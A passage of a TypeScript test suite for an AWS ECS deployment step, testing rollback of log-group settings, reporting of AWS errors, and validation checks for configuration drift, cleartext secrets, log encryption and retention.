      aws.logs.on(TagLogGroupCommand).resolves({});
      aws.ecs.on(UntagResourceCommand).resolves({});
      const ctx = testContext();
      await taskDefinitionStep.rollback(ctx, before, new Set());
      expect(writeCalls(aws)).toEqual(['logs:DeleteRetentionPolicy', 'logs:DisassociateKmsKey', 'logs:TagResource', 'logs:UntagResource', 'ecs:UntagResource']);
      expect(aws.ecs.commandCalls(UntagResourceCommand)[0].args[0].input).toEqual({ resourceArn: revisionArn(3), tagKeys: ['Project', 'CostCenter'] });
      expect(aws.logs.commandCalls(UntagLogGroupCommand)[0].args[0].input).toEqual({ resourceArn: logGroupArn, tagKeys: ['Project', 'CostCenter'] });
      expect(aws.logs.commandCalls(TagLogGroupCommand)[0].args[0].input).toEqual({ resourceArn: logGroupArn, tags: { Environment: 'Staging' } });
      await taskDefinitionStep.rollback(ctx, before, new Set());
      expect(writeCalls(aws)).toHaveLength(5);
    });

    it('puts a previous retention back with PutRetentionPolicy', async () => {
      mockWorld({ logGroup: { ...inSyncLogGroup, retentionInDays: 90 } });
      const { before } = await taskDefinitionStep.plan(testContext());
      aws.logs.reset();
      mockWorld();
      aws.logs.on(PutRetentionPolicyCommand).resolves({});
      await taskDefinitionStep.rollback(testContext(), before, new Set());
      expect(writeCalls(aws)).toEqual(['logs:PutRetentionPolicy']);
      expect(aws.logs.commandCalls(PutRetentionPolicyCommand)[0].args[0].input).toEqual({ logGroupName, retentionInDays: 90 });
    });
  });

  it('surfaces an AWS error with its name and request id', async () => {
    aws.logs.on(DescribeLogGroupsCommand).rejects(awsError('AccessDeniedException', 'not authorized to perform logs:DescribeLogGroups', 'req-77'));
    // The step's other reads (asked side by side) find nothing: the log group's error is the one.
    aws.ecs.on(DescribeTaskDefinitionCommand).rejects(notFound());
    aws.ecs.on(DescribeServicesCommand).resolves({ services: [] });
    const error = await taskDefinitionStep.plan(testContext()).catch((e: unknown) => e);
    expect(describeAwsError(error)).toBe('AccessDeniedException: not authorized to perform logs:DescribeLogGroups — request id req-77');
  });

  it('does not mistake another ECS ClientException for "no revision yet"', async () => {
    mockWorld();
    aws.ecs.on(DescribeTaskDefinitionCommand).rejects(awsError('ClientException', 'Rate exceeded for account', 'req-88'));
    const error = await taskDefinitionStep.plan(testContext()).catch((e: unknown) => e);
    expect(describeAwsError(error)).toBe('ClientException: Rate exceeded for account — request id req-88');
    expect(writeCalls(aws)).toEqual([]);
  });

  describe('validate', () => {
    it('all OK when the service revision and the log group match the config', async () => {
      mockWorld();
      const findings = await taskDefinitionStep.validate(testContext());
      expect(findings.map((f) => [f.check, f.status])).toEqual([
        ['Task Definition', 'OK'],
        ['Task Definition Secrets', 'OK'],
        ['Log Group Encryption', 'OK'],
        ['Log Retention', 'OK'],
      ]);
      expect(findings[0]).toMatchObject({ resource: 'task definition fintech-api-task:3', reason: 'the service runs it; matches the config' });
      expect(findings[1].reason).toContain('api-container/DB_PASSWORD');
      expect(writeCalls(aws)).toEqual([]);
    });

    it('judges the revision the service runs: FAIL naming privileged, user, command… even when the latest ACTIVE one matches', async () => {
      mockWorld({ latest: awsRevision(6), running: revisionArn(5), revisions: [hostile(5)] });
      const findings = await taskDefinitionStep.validate(testContext());
      expect(findings[0]).toMatchObject({ check: 'Task Definition', status: 'FAIL' });
      expect(findings[0].resource).toBe('task definition fintech-api-task:5');
      expect(findings[0].reason).toBe(
        'the service runs it; differs from the config: containerDefinitions.api-container.command, containerDefinitions.api-container.privileged, ' +
          'containerDefinitions.api-container.readonlyRootFilesystem, containerDefinitions.api-container.user (run plan)',
      );
      expect(findings.filter((f) => f.check === 'Task Definition')).toHaveLength(1);
    });

    it('FAIL for an out-of-band latest revision the service does not run (what the family name resolves to)', async () => {
      mockWorld({ latest: hostile(5), running: revisionArn(3), revisions: [awsRevision(3)] });
      const findings = (await taskDefinitionStep.validate(testContext())).filter((f) => f.check === 'Task Definition');
      expect(findings.map((f) => f.status)).toEqual(['OK', 'FAIL']);
      expect(findings[1].resource).toBe('task definition fintech-api-task:5');
      expect(findings[1].reason).toMatch(/^the family's latest ACTIVE revision, not the service's; differs from the config: .*privileged/);
    });

    it('FAIL naming the container and variable for a secret in cleartext, an unencrypted log group and a wrong retention', async () => {
      const leaky = awsRevision(6, {
        api: { environment: [...apiContainer.environment!, { name: 'DB_PASSWORD', value: 'hunter2' }, { name: 'STRIPE_API_KEY', value: 'sk_live' }], secrets: [] },
      });
      mockWorld({ latest: leaky, logGroup: { ...inSyncLogGroup, kmsKeyId: undefined, retentionInDays: undefined } });
      const findings = await taskDefinitionStep.validate(testContext());
      const byCheck = Object.fromEntries(findings.map((f) => [f.check, f]));
      expect(byCheck['Task Definition']).toMatchObject({ status: 'FAIL' });
      expect(byCheck['Task Definition'].reason).toContain('containerDefinitions.api-container.secrets');
      expect(byCheck['Task Definition Secrets']).toMatchObject({ status: 'FAIL' });
      expect(byCheck['Task Definition Secrets'].reason).toContain('container api-container has DB_PASSWORD in cleartext environment');
      expect(byCheck['Task Definition Secrets'].reason).toContain('container api-container has STRIPE_API_KEY in cleartext environment');
      expect(JSON.stringify(findings)).not.toContain('hunter2');
      expect(byCheck['Log Group Encryption']).toMatchObject({ status: 'FAIL', reason: 'not encrypted with KMS (no kmsKeyId)' });
      expect(byCheck['Log Retention']).toMatchObject({ status: 'FAIL', reason: 'retention is never expire, want 365 days' });
    });

    it('FAIL when there is no revision and no log group', async () => {
      mockWorld({ latest: null, running: null, logGroup: { ...inSyncLogGroup, logGroupName: '/ecs/fintech-api-old' } });
      const findings = await taskDefinitionStep.validate(testContext());
      expect(findings.map((f) => [f.check, f.status, f.reason])).toEqual([
        ['Task Definition', 'FAIL', 'no ACTIVE revision of family fintech-api-task'],
        ['Task Definition Secrets', 'SKIP', 'no task definition to inspect'],
        ['Log Group Encryption', 'FAIL', 'log group does not exist'],
      ]);
    });
  });
});
